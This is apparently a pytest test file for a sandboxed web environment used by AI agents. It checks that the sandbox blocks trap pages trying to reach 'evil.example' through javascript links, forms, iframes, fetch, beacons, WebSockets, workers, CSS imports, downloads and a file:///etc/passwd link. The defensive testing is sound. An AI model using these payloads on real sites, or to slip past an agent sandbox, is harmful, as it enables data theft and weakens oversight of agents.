"""Pages that want out of the site, each by another way: none gets there, and the observation says what was held."""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browser_here import needs_browser

from synth.environments.contract import ToolCall, ToolResult
from synth.environments.web.environment import WebEpisode, open_web
from synth.exploration.web.walking import beginning_of

pytestmark = [pytest.mark.extras, needs_browser]
OUT = "http://evil.example/steal"
LEFT = f"The site can't be left: {OUT}"
ASKED = "The page asked for something outside the site (evil.example), which it did not get."
WAYS = {
    "data": ('<a href="data:text/html,<h1>data</h1>">go</a>', "an address that begins with data: was not opened"),
    "file": ('<a href="file:///etc/passwd">go</a>', "an address that begins with file: was not opened"),
    "javascript": (f"<a href=\"javascript:location='{OUT}'\">go</a>", LEFT),
    "https": ('<a href="https://evil.example/">go</a>', "The site can't be left: https://evil.example/"),
    "base": ('<base href="http://evil.example/"><a href="x">go</a>', "The site can't be left: http://evil.example/x"),
    "window": (f"<button onclick=\"window.open('{OUT}')\">go</button>", LEFT),
    "frame's window": (
        f"<button onclick=\"document.body.appendChild(document.createElement('iframe')).contentWindow.open('{OUT}')\">"
        "go</button>",
        LEFT,
    ),
    "blob": (
        "<button onclick=\"location.href=window.URL.createObjectURL(new Blob(['x'],{type:'text/html'}))\">go</button>",
        "an address that begins with blob: was not opened",
    ),
    "form": (f'<form action="{OUT}" method="post"><button>go</button></form>', LEFT),
    "form in a window": (f'<form action="{OUT}" target="_blank"><button>go</button></form>', LEFT),
    "refresh": ('<a href="/leave.html">go</a>', LEFT),
    "iframe": (
        f"<button onclick=\"document.body.appendChild(document.createElement('iframe')).src='{OUT}'\">go</button>",
        LEFT,
    ),
    "iframe over the page": (
        "<button onclick=\"document.body.appendChild(document.createElement('iframe')).src='/top.html'\">go</button>",
        LEFT,
    ),
    "fetch": (f"<button onclick=\"fetch('{OUT}').catch(() => 0)\">go</button>", ASKED),
    "beacon": (f"<button onclick=\"navigator.sendBeacon('{OUT}', 'x')\">go</button>", ASKED),
    "socket": ("<button onclick=\"new WebSocket('ws://evil.example/')\">go</button>", ASKED),
    "events": (f"<button onclick=\"new EventSource('{OUT}')\">go</button>", ASKED),
    "worker": (
        "<button onclick=\"new Worker(window.URL.createObjectURL(new Blob([`fetch('" + OUT + "')`])))\">go</button>",
        "A script of the page failed: No workers run here.",
    ),
    "service worker": (
        "<button onclick=\"navigator.serviceWorker.register('/sw.js')\">go</button>",
        "A script of the page failed",
    ),
    "style": (
        "<button onclick=\"document.head.appendChild(document.createElement('style')).textContent="
        f"'@import url({OUT}.css)'\">go</button>",
        ASKED,
    ),
    "download": ('<a href="/file.bin" download>go</a>', "Nothing can be downloaded here."),
    "download from elsewhere": (f'<a href="{OUT}" download>go</a>', LEFT),
    "unreadable page": ('<a href="/file.bin">go</a>', "Nothing can be downloaded here."),
    "script's file": (
        "<button onclick=\"Object.assign(document.createElement('a'),{href:'/file.bin',download:'x'}).click()\">"
        "go</button>",
        "Nothing can be downloaded here.",
    ),
}


@pytest.fixture(scope="module")
def episode(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebEpisode]:
    folder: Path = tmp_path_factory.mktemp("hostile")
    (folder / "index.html").write_text("<h1>First</h1>")
    (folder / "leave.html").write_text(f'<meta http-equiv="refresh" content="0; url={OUT}"><h1>Trap</h1>')
    (folder / "top.html").write_text(f"<script>top.location = '{OUT}'</script>")
    (folder / "file.bin").write_bytes(b"\0" * 10)
    for number, (markup, _) in enumerate(WAYS.values()):
        (folder / f"{number}.html").write_text(f"<h1>Trap</h1>{markup}")
    held = open_web(site=str(folder), html=False).reset(beginning_of(None))
    yield held
    held.close()


def do(episode: WebEpisode, name: str, **arguments: Any) -> ToolResult:
    return episode.step(ToolCall(id="c", name=name, arguments=arguments))


@pytest.mark.parametrize("way", WAYS)
def test_no_way_leads_out_and_each_is_told(episode: WebEpisode, way: str) -> None:
    do(episode, "open", url=f"/{list(WAYS).index(way)}.html")
    assert episode.seen is not None
    go = next(one.ref for one in episode.seen.tree.elements if one.name == "go")
    said = do(episode, "click", ref=go)
    assert said.error is None
    assert WAYS[way][1] in said.content
    assert 'heading 1 "Trap"' in said.content
    assert said.page is not None
    assert said.page.url.startswith("http://site.test/")


def test_a_script_that_fails_is_told_once_the_page_is_there(episode: WebEpisode, tmp_path: Path) -> None:
    """What fails while a page loads may be a matter of time."""
    (tmp_path / "index.html").write_text("<button onclick='other()'>go</button><script>noSuchFunction();</script>")
    held = open_web(site=str(tmp_path), html=False).reset(beginning_of(None))
    assert "A script" not in do(held, "open", url="/").content
    assert held.seen is not None
    (go,) = (one.ref for one in held.seen.tree.elements if one.name == "go")
    assert "A script of the page failed: other is not defined" in do(held, "click", ref=go).content
    held.close()


def test_nothing_is_told_of_a_script_that_failed_on_the_page_before(tmp_path: Path) -> None:
    leave = "location.href = '/next.html'; noSuchFunction()"
    (tmp_path / "index.html").write_text(f'<h1>x</h1><button onclick="{leave}">go</button>')
    (tmp_path / "next.html").write_text("<h1>Next</h1>")
    with contextlib.closing(open_web(site=str(tmp_path), html=False).reset(beginning_of(None))) as other:
        do(other, "open", url="/")
        assert other.seen is not None
        said = do(other, "click", ref=next(one.ref for one in other.seen.tree.elements if one.name == "go"))
    assert 'heading 1 "Next"' in said.content
    assert "failed" not in said.content
